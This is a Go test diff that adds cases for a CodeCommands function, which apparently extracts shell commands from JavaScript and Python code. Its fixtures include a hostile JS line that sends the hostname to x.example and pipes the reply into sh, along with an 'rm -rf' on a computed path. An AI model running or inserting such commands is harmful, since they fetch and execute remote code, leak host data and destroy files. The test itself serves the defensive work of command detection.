@@ -24,3 +24,21 @@ func TestCodeCommandsGo(t *testing.T) {
 		}
 	}
 }
+
+// A command joined with "+" around computed values keeps its literals,
+// each computed operand standing as $X.
+func TestCodeCommandsJoinedAround(t *testing.T) {
+	for _, tc := range []struct {
+		lang, code string
+		want       []string
+	}{
+		{"js", `require('child_process').exec('curl -s https://x.example/p?h='+require('os').hostname()+' | sh')`, []string{"curl -s https://x.example/p?h=$X | sh"}},
+		{"python", `os.system("rm -rf " + path)`, []string{"rm -rf $X"}},
+		{"python", `os.system("tar czf " + f(a, b) + " src")`, []string{"tar czf $X src"}},
+		{"python", `os.system("make")`, []string{"make"}},
+	} {
+		if got := CodeCommands(tc.lang, tc.code); !slices.Equal(got, tc.want) {
+			t.Errorf("CodeCommands(%s, %q) = %q, want %q", tc.lang, tc.code, got, tc.want)
+		}
+	}
+}
